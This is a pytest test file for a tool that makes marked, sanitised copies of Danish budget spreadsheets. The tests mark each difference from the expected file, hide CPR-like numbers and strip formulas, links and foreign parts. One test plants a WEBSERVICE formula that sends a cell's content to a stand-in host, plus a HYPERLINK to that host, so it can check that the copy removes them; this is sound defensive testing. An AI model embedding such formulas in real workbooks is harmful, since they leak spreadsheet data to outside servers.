"""`bilag kontrol --kopi`: the file to look at, each difference marked in its cell, and nothing of the file itself in it."""

import datetime as dt
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.workbook import Workbook

from model.facts.privacy import without_cpr
from tests.shared.files import Parts, add_cell, parts_of, set_cell, sheet_part, without_cell, write_parts
from tests.shared.validity import audit, by_sdk
from tests.shared.workbooks import Built
from workbooks.proof.control import control, examined
from workbooks.proof.copy_mark import FRONT, TITLE
from workbooks.proof.marked_copy import marked_copy, name_of_copy
from workbooks.proof.report import MOST_TOLD, PassedOverError
from workbooks.writing.seal import is_untouched

NAME, SHEET = "Bilag_4.1_Budget.xlsx", "Bilag 4.1"
BOOK, STYLES = "xl/workbook.xml", "xl/styles.xml"
MARK, HEAD = "00FF66CC", 6
"""Colour of a marked cell as openpyxl tells it, and the row of the list's headings where the release is said."""
DAY = dt.date(2023, 10, 23)
CPR = "010190-1234"
Spoil = Callable[[Parts], Parts]


def on(number: int, *changes: Callable[[str], str]) -> Spoil:
    """A sheet changed, counted from 0."""

    def spoil(parts: Parts) -> Parts:
        part = sheet_part(number)
        xml = parts[part].decode()
        for change in changes:
            before, xml = xml, change(xml)
            assert xml != before
        return parts | {part: xml.encode()}

    return spoil


CHANGED = on(
    0,
    lambda xml: set_cell(xml, "B8", "<v>999</v>"),
    lambda xml: set_cell(xml, "C9", "<f>SUM(B9:B9)</f><v>22222.22</v>"),
    lambda xml: add_cell(xml, "J9", f"<is><t>Ring {CPR}</t></is>", ' t="inlineStr"'),
    lambda xml: without_cell(xml, "A10"),
)


@pytest.fixture
def budget(all_built: dict[tuple[str, str], Built]) -> Built:
    """The budget of the Viborg agreement."""
    return all_built["viborg", NAME]


def copied(built: Built, folder: Path, *spoils: Spoil) -> Path:
    """The copy of a file that is spoiled."""
    parts = parts_of(built.path)
    for spoil in spoils:
        parts = spoil(parts)
    path = write_parts(parts, folder / NAME)
    report, found = examined(path, built.agreement)
    target = folder / name_of_copy(path)
    target.write_bytes(marked_copy(report, found, DAY))
    return target


def marked(book: Workbook) -> dict[str, str]:
    """The notes of all marked cells by sheet and cell."""
    return {
        f"{sheet.title}!{cell.coordinate}": cell.comment.text if cell.comment else ""
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb == MARK
    }


def listed(book: Workbook) -> list[list[str]]:
    """The lines of the list."""
    rows = [["" if cell.value is None else cell.value for cell in row] for row in book[FRONT].iter_rows()]
    head = next(number for number, row in enumerate(rows) if row[0] == "Nr.")
    return [row for row in rows[head + 1 :] if row[0]]


def test_each_difference_is_marked_where_it_stands_with_what_was_expected(budget: Built, tmp_path: Path) -> None:
    """A value over a formula, another formula, a cell too many and one too few; of the clause what there is."""
    book = openpyxl.load_workbook(copied(budget, tmp_path, CHANGED))
    notes = marked(book)
    assert notes.keys() == {f"{SHEET}!{at}" for at in ("B8", "C9", "J9", "A10")}
    assert notes[f"{SHEET}!B8"] == "formel overskrevet af en værdi: står 999, ventet =Beregning!E26 (Bilag 4.1)"
    assert notes[f"{SHEET}!C9"].startswith("ændret formel: står =SUM(B9:B9), ventet =Beregning!F27 (Bilag 4.1)")
    assert "ventet »Kørselsgodtgørelse til medarbejdere«" in notes[f"{SHEET}!A10"]
    assert book[SHEET]["B8"].value == 999  # what the file has, not what was expected


def test_of_a_file_without_stored_values_the_copy_has_those_of_the_engine(budget: Built, tmp_path: Path) -> None:
    """openpyxl and xlsx-populate store none: the figure, never the formula; what no engine calculates is told as not stored."""

    def emptied(parts: Parts) -> Parts:
        return {name: re.sub(rb'(?: t="str")?(><f>[^<]*</f>)<v>[^<]*</v>', rb"\1", xml) for name, xml in parts.items()}

    strange = on(0, lambda xml: set_cell(xml, "C9", '<f>HYPERLINK("x")</f>'))
    assert openpyxl.load_workbook(copied(budget, tmp_path, emptied, strange))[SHEET]["C9"].value == "ikke gemt"
    book = openpyxl.load_workbook(copied(budget, tmp_path, emptied))
    formulas = [cell for cell in budget.book.sheets[0].cells.values() if cell.expression is not None]
    assert [book[SHEET][cell.at].value for cell in formulas] == pytest.approx([cell.content for cell in formulas])
    about = "".join(str(row[0].value) for row in book[FRONT].iter_rows(max_row=6))
    assert "motorens, hvor ingen er gemt" in about


def test_beyond_a_thousand_differences_the_copy_says_that_only_those_have_notes(budget: Built, tmp_path: Path) -> None:
    """Each of 1,100 is coloured."""
    row = "".join(f'<c r="{get_column_letter(column)}99"><v>1</v></c>' for column in range(1, 401))
    rows = "".join(f'<row r="{at}">{row.replace("99", str(at))}</row>' for at in (97, 98, 99))
    book = openpyxl.load_workbook(
        copied(budget, tmp_path, on(0, lambda xml: xml.replace("</sheetData>", f"{rows}</sheetData>")))
    )
    about = "".join(str(row[0].value) for row in book[FRONT].iter_rows(max_row=6))
    assert "noten i den siger ved de første 1.000, hvad der var ventet" in about
    assert list(map(bool, marked(book).values())).count(True) == 1000
    assert len(marked(book)) == 1200


def test_the_first_sheet_lists_them_all_with_links_to_their_cells(budget: Built, tmp_path: Path) -> None:
    """In the order of the report, with its words."""
    path = copied(budget, tmp_path, CHANGED)
    report = control(tmp_path / NAME, budget.agreement)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[0] == FRONT
    assert book[FRONT]["A1"].value == TITLE
    lines = listed(book)
    assert [(line[1], line[2], line[3]) for line in lines] == [
        (one.sheet, one.place, one.kind.value) for one in report.differences
    ]
    links = {cell.value: cell.hyperlink.location for cell in book[FRONT]["C"] if cell.hyperlink}
    assert links == {at: f"'{SHEET}'!{at}" for at in ("B8", "C9", "J9", "A10")}


def test_lines_of_the_list_are_as_high_as_their_texts(budget: Built, tmp_path: Path) -> None:
    """Of one line, and of a text that is broken: no program fits rows that a file has no height of."""
    long = on(
        0, lambda xml: set_cell(xml, "A11", f"<is><t>{'ikke alle over eller under ' * 16}</t></is>", ' t="inlineStr"')
    )
    front = openpyxl.load_workbook(copied(budget, tmp_path, CHANGED, long))[FRONT]
    heights = [front.row_dimensions[row].height for row in range(HEAD + 2, HEAD + 2 + len(listed(front.parent)))]
    lowest, *_, highest = sorted(heights)
    assert lowest < 30
    assert 100 < highest < 200


def test_a_missing_sheet_and_a_hidden_column_stand_in_the_list_and_nothing_is_hidden(
    budget: Built, tmp_path: Path
) -> None:
    """The sheet has no cell to lead to; the column is there to be looked at."""

    def without_sheet(parts: Parts) -> Parts:
        book = re.sub(rb'<sheet [^>]*name="Oprindelse"[^>]*/>', b"", parts[BOOK])
        book = re.sub(rb'<definedName[^>]*localSheetId="4"[^>]*>[^<]*</definedName>', b"", book)
        assert book != parts[BOOK]
        return parts | {BOOK: book}

    hidden = on(2, lambda xml: xml.replace("<col ", '<col hidden="1" ', 1))
    book = openpyxl.load_workbook(copied(budget, tmp_path, without_sheet, hidden))
    lines = {(line[1], line[2]): line for line in listed(book)}
    assert lines["Oprindelse", "arket"][3] == "manglende ark"
    assert ("Forudsætninger", "A:A") in lines
    assert not any(one.hidden for sheet in book.worksheets for one in sheet.column_dimensions.values())
    assert all(sheet.sheet_state == "visible" for sheet in book.worksheets)


def test_a_file_without_differences_has_a_copy_that_says_so(budget: Built, tmp_path: Path) -> None:
    """Nothing is marked."""
    book = openpyxl.load_workbook(copied(budget, tmp_path))
    assert book[FRONT]["A2"].value == f"{NAME}: ingen forskelle"
    assert not marked(book)
    assert not listed(book)


def test_nothing_like_a_cpr_number_is_in_the_copy(budget: Built, tmp_path: Path) -> None:
    """In no part: neither as a text nor as a number, nor in a sheet's name."""

    def named(parts: Parts) -> Parts:
        return parts | {BOOK: parts[BOOK].replace(b'"Oprindelse"', f'"Navn {CPR}"'.encode())}

    number = on(1, lambda xml: add_cell(xml, "N4", "<v>101901234</v>"))
    parts = parts_of(copied(budget, tmp_path, CHANGED, named, number))
    every = b"".join(parts.values()).decode(errors="replace")
    assert CPR not in every
    assert "101901234" not in every
    assert "[skjult]" in every
    assert 'name="Ark nr. 5"' in parts[BOOK].decode()


@pytest.mark.parametrize(
    ("content", "shown"),
    [
        pytest.param("<v>3102030405</v>", "[skjult]", id="a day that there is not, and four digits"),
        pytest.param("<v>105000000.5</v>", "[skjult]", id="nine digits before the comma"),
        pytest.param("<v>310203.0405</v>", "[skjult]", id="a comma within"),
        pytest.param("<v>4500000.25</v>", 4_500_000.25, id="an amount"),
        pytest.param("<f>1551015202.5*2</f><v>3102030405</v>", "[skjult]", id="calculated"),
        pytest.param("<f>1/3</f><v>0.333333333333333</v>", 0.333333333333333, id="a share"),
    ],
)
def test_what_the_report_hides_of_an_added_cell_the_copy_hides(
    content: str, shown: str | float, budget: Built, tmp_path: Path
) -> None:
    """A number that is no CPR number, and could be one with a mistake in it; amounts and shares are shown."""
    added = on(0, lambda xml: add_cell(xml, "J9", content))
    assert openpyxl.load_workbook(copied(budget, tmp_path, added))[SHEET]["J9"].value == shown
    (one,) = [one for one in control(tmp_path / NAME, budget.agreement).told if one.place == "J9"]
    if not one.found.startswith("="):
        assert (one.found == "[skjult]") == (shown == "[skjult]")


def test_a_number_like_a_cpr_number_is_told_in_no_formula_that_adds_it_up(budget: Built, tmp_path: Path) -> None:
    """One that has lost its zero, as an assumption: a sum of its parts is it but for a rounding error."""
    assumed = on(2, lambda xml: set_cell(xml, "B11", "<v>102030405</v>"))
    parts = parts_of(copied(budget, tmp_path, assumed))
    report = control(tmp_path / NAME, budget.agreement)
    lines = [without_cpr(f"{one.sheet}!{one.place}: {one.found}, {one.allowed}") for one in report.differences]
    assert "Beregning!I11: 4.500.000, [skjult]" in lines
    every = "".join([*lines, b"".join(parts.values()).decode(errors="replace")])
    assert not re.search(r"102[., ]?030[., ]?40[45]", every)


def test_beyond_the_marked_cells_long_figures_are_hidden_too(budget: Built, tmp_path: Path) -> None:
    """The last of 2,100 added numbers has no mark."""
    rows = "".join(f'<row r="{row}"><c r="A{row}"><v>3102030405</v></c></row>' for row in range(3000, 5100))
    book = openpyxl.load_workbook(
        copied(budget, tmp_path, on(0, lambda xml: xml.replace("</sheetData>", f"{rows}</sheetData>")))
    )
    assert {book[SHEET][f"A{row}"].value for row in range(3000, 5100)} == {"[skjult]"}


def test_no_formula_link_name_or_part_of_the_file_goes_into_the_copy(budget: Built, tmp_path: Path) -> None:
    """Texts that look like formulas stay texts."""
    calls = on(
        0,
        lambda xml: set_cell(xml, "B8", '<f>WEBSERVICE("http://fremmed.example/"&amp;A1)</f><v>1</v>'),
        lambda xml: add_cell(xml, "J9", '<is><t>=HYPERLINK("http://fremmed.example")</t></is>', ' t="inlineStr"'),
    )

    def with_part(parts: Parts) -> Parts:
        return parts | {"xl/fremmed.bin": b"fremmed", "customXml/item1.xml": b"<fremmed/>"}

    parts = parts_of(copied(budget, tmp_path, calls, with_part))
    assert not any(b"<f>" in xml or b"<f " in xml for name, xml in parts.items() if "worksheets" in name)
    assert not any(b"External" in xml for name, xml in parts.items() if name.endswith(".rels"))
    assert b"<definedName" not in parts[BOOK].replace(b"_xlnm.Print_Titles", b"").split(b"<definedNames>")[0]
    assert not any("fremmed" in name or name.startswith("customXml") for name in parts)
    book = openpyxl.load_workbook(tmp_path / name_of_copy(tmp_path / NAME))
    assert (book[SHEET]["J9"].data_type, book[SHEET]["J9"].quotePrefix) == ("s", True)
    assert book[SHEET]["B8"].value == 1


def hostile(parts: Parts) -> Parts:
    """Names that Excel does not take, merged cells over each other, letters that no XML has, formats of no sense."""
    xml = parts[sheet_part(0)].decode()
    xml = add_cell(xml, "J9", "<is><t>_xD800_ _x0001_ slut</t></is>", ' t="inlineStr"')
    xml = re.sub(r"<mergeCells[^>]*>", lambda m: m[0] + '<mergeCell ref="A8:C9"/><mergeCell ref="B8:D12"/>', xml)
    styles = parts[STYLES].decode()
    styles = re.sub(r'formatCode="[^"]*"', 'formatCode="[Sjov]&quot;0.0.0\\"', styles, count=1)
    styles = re.sub(r'(<sz val=)"[^"]*"', r'\1"0"', styles, count=3)
    book = parts[BOOK].decode().replace('name="Oprindelse"', 'name="forskelle"')
    book = book.replace('name="Kontrol"', "name=\"'[a]*?/:'\"")
    return parts | {sheet_part(0): xml.encode(), STYLES: styles.encode(), BOOK: book.encode()}


@pytest.mark.parametrize("spoils", [(CHANGED,), (hostile,)], ids=["changed", "hostile"])
def test_the_copy_is_valid_by_two_validators(budget: Built, tmp_path: Path, spoils: tuple[Spoil, ...]) -> None:
    """Whatever the file was."""
    path = copied(budget, tmp_path, *spoils)
    assert not audit(path)
    assert not by_sdk(path)


def test_sheets_of_forbidden_or_taken_names_are_numbered(budget: Built, tmp_path: Path) -> None:
    """The list's own name is taken in any letters."""
    assert openpyxl.load_workbook(copied(budget, tmp_path, hostile)).sheetnames == [
        *(FRONT, SHEET, "Beregning", "Forudsætninger", "Ark nr. 4", "Ark nr. 5")
    ]


def test_of_more_than_a_thousand_differences_all_are_marked_and_the_rest_is_counted(
    budget: Built, tmp_path: Path
) -> None:
    """1,005 cells more: 1,000 lines, 1,000 notes, and 5 that are told as a count."""
    rows = "".join(
        f'<row r="{row}"><c r="A{row}"><v>{row}.5</v></c></row>' for row in range(3000, 3000 + MOST_TOLD + 5)
    )
    path = copied(budget, tmp_path, on(0, lambda xml: xml.replace("</sheetData>", f"{rows}</sheetData>")))
    book = openpyxl.load_workbook(path)
    lines = listed(book)
    assert (lines[MOST_TOLD - 1][0], lines[MOST_TOLD][0]) == (str(MOST_TOLD), "… og 5 forskelle til")
    notes = marked(book)
    assert len(notes) == MOST_TOLD + 5
    assert sum(map(bool, notes.values())) == MOST_TOLD


def test_the_same_file_gives_the_same_copy_and_it_is_sealed(budget: Built, tmp_path: Path) -> None:
    """So that the next call replaces it, unless somebody has written in it."""
    (tmp_path / "en").mkdir()
    (tmp_path / "to").mkdir()
    one, other = (copied(budget, tmp_path / name, CHANGED).read_bytes() for name in ("en", "to"))
    assert one == other
    assert is_untouched(one)


def test_a_copy_is_known_as_one_and_not_proved(budget: Built, tmp_path: Path) -> None:
    """It would differ in every formula."""
    with pytest.raises(PassedOverError, match="er en kopi fra bilag kontrol --kopi og er ikke prøvet; prøv filen selv"):
        control(copied(budget, tmp_path, CHANGED), budget.agreement)


@pytest.mark.parametrize(
    ("name", "copy"),
    [
        ("a.xlsx", "a_kontrolleret.xlsx"),
        ("a.XLSX", "a_kontrolleret.xlsx"),
        ("a.xlsm", "a.xlsm_kontrolleret.xlsx"),
        ("a 010190-1234.xlsx", "a skjult_kontrolleret.xlsx"),
    ],
)
def test_the_copy_is_named_after_its_file(name: str, copy: str) -> None:
    """Beregner.xlsx and Beregner.xlsm have two; a person's number is not repeated."""
    assert name_of_copy(Path(name)) == copy
